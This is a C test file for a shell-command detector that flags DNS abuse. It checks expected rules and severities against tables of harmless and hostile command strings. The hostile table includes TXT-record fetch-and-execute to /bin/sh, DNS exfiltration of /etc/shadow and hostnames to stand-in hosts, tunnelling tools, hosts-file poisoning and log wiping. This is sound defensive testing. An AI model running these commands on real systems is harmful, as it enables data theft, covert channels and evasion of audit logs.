/* SPDX-License-Identifier: Apache-2.0 */
/*
 * command.c - the command detector: every pattern's examples, harmless forms,
 * attacks in other dress.
 */
#include <stdio.h>

#include "command.h"
#include "intel.h"
#include "tap.h"

static const struct {
	const char *group, *rule;
} rules[] = {
	{ "domain-to-ip", "command.domain-to-ip" },
	{ "my-ip", "command.my-ip" },
	{ "doh", "command.doh" },
	{ "txt-exec", "command.txt-fetch" },
	{ "hosts-edit", "command.hosts-edit" },
	{ "resolv-edit", "command.resolver-tamper" },
	{ "immutable", "command.resolver-tamper" },
	{ "timestomp", "command.resolver-tamper" },
	{ "service", "command.resolver-tamper" },
	{ "dns-server", "command.resolver-tamper" },
	{ "redirect", "command.resolver-tamper" },
	{ "query", "command.direct-query" },
	{ "flush", "command.cache-flush" },
	{ "tunnel", "command.tunnel-tool" },
	{ "exfil", "command.exfil" },
	{ "history", "command.history-tamper" },
	{ "log", "command.log-tamper" },
	{ "snoop", "command.cache-snoop" },
	{ "server", "command.server-tamper" },
	{ "preload", "command.hook" },
	{ "nss", "command.hook" },
	{ "ebpf", "command.hook" },
	{ "persist", "persistence.dns" },
};

static const char *
rule_of(const struct shell_pattern *p)
{
	for (size_t i = 0; i < array_size(rules); i++)
		if (strcmp(rules[i].group, p->group) == 0)
			return rules[i].rule;
	return "";
}

static void
run_alone(struct drive *d, const char *who, const char *text)
{
	struct member m = drive_file(HISTORY);
	struct record r;

	m.index = d->members++;
	r = command(who, text, 1, &m);
	drive_see(d, &r);
}

static int
severity_number(const char *text)
{
	int s = 0;

	while (s < SEV_CRITICAL &&
	    strcmp(severity_text((enum severity)s), text) != 0)
		s++;
	return s;
}

/* Does the finding rest on this pattern? *worst: of all it rests on. */
static bool
rests_on(const struct finding *f, const char *id, int *worst)
{
	struct span rest = drive_fact_of(f, "patterns"), word;
	bool found = false;

	*worst = -1;
	while ((word = text_word(&rest)).n > 0) {
		found |= span_is(word, id);
		for (size_t i = 0; i < intel_shell_patterns_count; i++) {
			const struct shell_pattern *p =
			    &intel_shell_patterns[i];
			int n = severity_number(p->severity);

			if (span_is(word, p->id) && n > *worst)
				*worst = n;
		}
	}
	return found;
}

/* Every row's examples: the right rule, and the right severity. */
static void
examples(void)
{
	struct drive d = drive_new("command");
	char who[32];

	for (size_t i = 0; i < intel_shell_patterns_count; i++) {
		(void)snprintf(who, sizeof(who), "p%zu", i);
		run_alone(&d, who, intel_shell_patterns[i].positive);
		(void)snprintf(who, sizeof(who), "n%zu", i);
		run_alone(&d, who, intel_shell_patterns[i].negative);
	}
	drive_conclude(&d);
	ok(intel_shell_patterns_count >= 131, "%zu patterns",
	    intel_shell_patterns_count);
	for (size_t i = 0; i < intel_shell_patterns_count; i++) {
		const struct shell_pattern *p = &intel_shell_patterns[i];
		const struct finding *f;
		int worst;

		(void)snprintf(who, sizeof(who), "p%zu", i);
		f = worst_of(&d, rule_of(p), who);
		/* Other patterns may make it graver, none less grave. */
		ok(f && rests_on(f, p->id, &worst) &&
			(int)f->severity >= severity_number(p->severity) &&
			(int)f->severity <= worst,
		    "%s: %s, %s: %s", p->id, rule_of(p),
		    f ? severity_text(f->severity) : "none", p->positive);
		(void)snprintf(who, sizeof(who), "n%zu", i);
		f = worst_of(&d, rule_of(p), who);
		ok(!f || !rests_on(f, p->id, &worst), "%s: not %s", p->id,
		    p->negative);
	}
	drive_free(&d);
}

struct said {
	const char *text;
	int severity; /* -1: nothing is said */
	const char *rule;
};

#define NOTHING -1, NULL

static const struct said harmless[] = {
	{ "grep -r 'ip-api.com/json/evil.example' /var/log", NOTHING },
	{ "sudo cat /etc/ld.so.preload", NOTHING },
	{ "history | grep 'curl -s ifconfig.me'", NOTHING },
	{ "ps aux | grep iodine -f | less", NOTHING },
	{ "man dns2tcpc ; apt show dns2tcpd ", NOTHING },
	{ "dpkg -L chisel client 2>/dev/null", NOTHING },
	{ "journalctl -u systemd-resolved | grep DNSSEC=no", NOTHING },
	{ "bore local --help", NOTHING },
	{ "frpc --version", NOTHING },
	{ "# curl ifconfig.me", NOTHING },
	{ "host $(hostname)", NOTHING },
	{ "nslookup `hostname -f`", NOTHING },
	{ "getent passwd `whoami` | cut -d : -f 5", NOTHING },
	{ "ping $(hostname).local", NOTHING },
	{ "curl -L https://x.example/a-$(uname -s)-$(uname -m).tgz -o a",
	    NOTHING },
	{ "curl https://$(hostname).corp.example:9200/_cluster/health",
	    NOTHING },
	{ "dig -x 8.8.8.8 | grep PTR | cut -d ' ' -f 2", NOTHING },
	{ "nc -zvu 10.0.0.1 53", NOTHING },
	{ "resolvectl dns eth0", NOTHING },
	{ "export PROMPT_COMMAND='history -a; history -c; history -r'",
	    NOTHING },
	{ "MYSQL_HISTFILE=/dev/null mysql", NOTHING },
	{ "augenrules --load", NOTHING },
	{ "systemd-run --on-active=30 /bin/refresh", NOTHING },
	{ "sudo apt-get install -y iodine -t stable", SEV_MEDIUM,
	    "command.tunnel-tool" },
	{ "echo '192.168.56.10 k8s-master' >> /etc/hosts", SEV_LOW,
	    "command.hosts-edit" },
	{ "echo '127.0.0.1 '$(hostname) >> /etc/hosts", SEV_HIGH,
	    "command.hosts-edit" },
	{ "echo \"127.0.0.1 $(hostname)\" >> /etc/hosts", SEV_LOW,
	    "command.hosts-edit" },
	{ "echo 10.0.0.5 git.company.example | tee -a /etc/hosts", SEV_MEDIUM,
	    "command.hosts-edit" },
	{ "echo 127.0.0.1 ad.doubleclick.net | sudo tee -a /etc/hosts",
	    SEV_MEDIUM, "command.hosts-edit" },
	{ "cp /etc/hosts.bak /etc/hosts", SEV_MEDIUM, "command.hosts-edit" },
	{ "echo nameserver 8.8.8.8 > /etc/resolv.conf", SEV_MEDIUM,
	    "command.resolver-tamper" },
	{ "resolvectl dns wg0 10.8.0.1 1.1.1.1", SEV_MEDIUM,
	    "command.resolver-tamper" },
	{ "nmcli con mod eth0 ipv4.dns 9.9.9.9", SEV_MEDIUM,
	    "command.resolver-tamper" },
	{ "dig @127.0.0.1 -p 5353 test.local", SEV_LOW,
	    "command.direct-query" },
	{ "dig @8.8.8.8 -p 53 example.com", SEV_LOW, "command.direct-query" },
	{ "dog example.com -H @https://cloudflare-dns.com/dns-query",
	    SEV_MEDIUM, "command.doh" },
	{ "journalctl --vacuum-time=2d", SEV_LOW, "command.log-tamper" },
	{ "journalctl --vacuum-size=500M", SEV_LOW, "command.log-tamper" },
	{ "rm /var/log/*.gz /var/log/syslog.1", SEV_LOW, "command.log-tamper" },
	{ "truncate -s 0 /var/log/nginx/access.log", SEV_MEDIUM,
	    "command.log-tamper" },
	{ "history -d 512", SEV_MEDIUM, "command.history-tamper" },
	{ "LD_PRELOAD=libjemalloc.so.2 redis-server", SEV_MEDIUM,
	    "command.hook" },
	{ "watch -n 1 dig +short example.com", SEV_LOW, "persistence.dns" },
	{ "bettercap -iface eth0", SEV_MEDIUM, "command.server-tamper" },
	{ "ngrok http 80", SEV_MEDIUM, "command.tunnel-tool" },
	{ "python3 -c 'import dns.resolver as r; print(r.resolve(\"x\"))'",
	    SEV_MEDIUM, "command.txt-fetch" },
};

static const struct said attacks[] = {
	{ "cat /etc/hosts; echo 65.181.121.56 malicious.com >>/etc/hosts",
	    SEV_HIGH, "command.hosts-edit" },
	{ "sudo sh -c 'printf \"1.2.3.4\\tbank.example\\n\" >> /etc/hosts'",
	    SEV_HIGH, "command.hosts-edit" },
	{ "echo \"127.0.0.1 `hostname`\n65.181.121.56 bank.com\">>/etc/hosts",
	    SEV_HIGH, "command.hosts-edit" },
	{ "cat >> /etc/hosts <<EOF\n10.0.0.1 a\n65.181.121.56 x.com\nEOF",
	    SEV_HIGH, "command.hosts-edit" },
	{ "echo -e '0.0.0.0 a.com\\n0.0.0.0 update.nai.com' >> /etc/hosts",
	    SEV_CRITICAL, "command.hosts-edit" },
	{ "dd if=/tmp/h of=/etc/hosts", SEV_HIGH, "command.hosts-edit" },
	{ "python3 -c \"open('/etc/hosts','a').write('1.2.3.4 x.com')\"",
	    SEV_HIGH, "command.hosts-edit" },
	{ "perl -pi -e 's/x/y/' /etc/hosts", SEV_MEDIUM, "command.hosts-edit" },
	{ "sudo -e /dev/null; sudoedit /etc/hosts", SEV_LOW,
	    "command.hosts-edit" },
	{ "/usr/bin/dig +short TXT c2.evil.example|tr -d '\"'|/bin/sh",
	    SEV_CRITICAL, "command.txt-fetch" },
	{ "dig +short AAAA a.evil.example | cut -f2- -d: | xxd -r -p", SEV_HIGH,
	    "command.txt-fetch" },
	{ "./beacon.ps1 -Domain evil.example -QueryType TXT", SEV_MEDIUM,
	    "command.txt-fetch" },
	{ "echo $(curl -s ifconfig.me)", SEV_LOW, "command.my-ip" },
	{ "cat <(curl -s http://ip-api.com/json/evil.example)", SEV_HIGH,
	    "command.domain-to-ip" },
	{ "nslookup $(cat /etc/hostname).evil.example", SEV_CRITICAL,
	    "command.exfil" },
	{ "dig $(hostname).collab.example", SEV_MEDIUM, "command.exfil" },
	{ "dig `base64 -w0 /etc/shadow | cut -c1-60` @203.0.113.5",
	    SEV_CRITICAL, "command.exfil" },
	{ "curl http://$(id -un).collab.example/", SEV_HIGH, "command.exfil" },
	{ "perl dnscat.pl -d evil.example", SEV_CRITICAL,
	    "command.tunnel-tool" },
	{ "Start-Dnscat2 -Domain evil.example", SEV_CRITICAL,
	    "command.tunnel-tool" },
	{ "apt install iodine -y && iodine -f t.evil.example", SEV_CRITICAL,
	    "command.tunnel-tool" },
	{ "echo nameserver 198.51.100.7 > /etc/resolv.conf", SEV_HIGH,
	    "command.resolver-tamper" },
	{ "resolvectl dns eth0 198.51.100.7 8.8.8.8", SEV_HIGH,
	    "command.resolver-tamper" },
	{ "history -cw", SEV_HIGH, "command.history-tamper" },
	{ "echo '' > $HISTFILE; rm $HISTFILE", SEV_HIGH,
	    "command.history-tamper" },
	{ "export HISTFILE=/dev/null --help", SEV_HIGH,
	    "command.history-tamper" },
	{ "journalctl --vacuum-time=1s", SEV_HIGH, "command.log-tamper" },
	{ "journalctl --rotate --vacuum-size=1M", SEV_HIGH,
	    "command.log-tamper" },
	{ "rm -rf /var/log/*", SEV_HIGH, "command.log-tamper" },
	{ "echo '' > /var/log/auth.log", SEV_HIGH, "command.log-tamper" },
	{ "set -g fish_history ''", SEV_HIGH, "command.history-tamper" },
	{ "cat /dev/zero > /var/log/messages", SEV_HIGH, "command.log-tamper" },
	{ "find /var/log -type f -exec truncate -s0 {} +", SEV_HIGH,
	    "command.log-tamper" },
	{ "LD_PRELOAD=/tmp/x.so sshd", SEV_HIGH, "command.hook" },
	{ "python3 -c 'import dns.resolver as r;"
	  "exec(r.resolve(\"c.evil.example\",\"TXT\")[0])'",
	    SEV_HIGH, "command.txt-fetch" },
	{ "bettercap -eval 'set dns.spoof.all true; dns.spoof on'",
	    SEV_CRITICAL, "command.server-tamper" },
};

static void
tell(const struct said *table, size_t n)
{
	struct drive d = drive_new("command");
	char who[32];

	for (size_t i = 0; i < n; i++) {
		(void)snprintf(who, sizeof(who), "u%zu", i);
		run_alone(&d, who, table[i].text);
	}
	drive_conclude(&d);
	for (size_t i = 0; i < n; i++) {
		const struct finding *f;

		(void)snprintf(who, sizeof(who), "u%zu", i);
		f = worst_of(&d, NULL, who);
		ok((f ? (int)f->severity : -1) == table[i].severity &&
			(!f || strcmp(f->rule->id, table[i].rule) == 0),
		    "%s%s%s: %.*s", f ? f->rule->id : "nothing", f ? " " : "",
		    f ? severity_text(f->severity) : "",
		    (int)strcspn(table[i].text, "\n"), table[i].text);
	}
	drive_free(&d);
}

static void
suppression(void)
{
	struct drive d = drive_new("command");
	const struct finding *f;

	run_alone(&d, "a", "cat /etc/ld.so.preload");
	run_alone(&d, "a", "ls -l /etc/ld.so.preload");
	run_alone(&d, "a", "echo '10.0.0.1 x' >> /etc/hosts");
	drive_conclude(&d);
	f = drive_found(&d, "command.suppressed", "benign forms");
	ok(f && f->severity == SEV_INFO && f->count == 2,
	    "what is dropped is counted and cited");
	is_str(drive_fact_of(f, "only reads or shows"), "2", "by form");
	is_str(
	    drive_fact_of(f, "hosts entry of a private address and local name"),
	    "1", "what is lowered too");
	drive_free(&d);
}

int
main(void)
{
	examples();
	tell(harmless, array_size(harmless));
	tell(attacks, array_size(attacks));
	suppression();
	return done_testing();
}
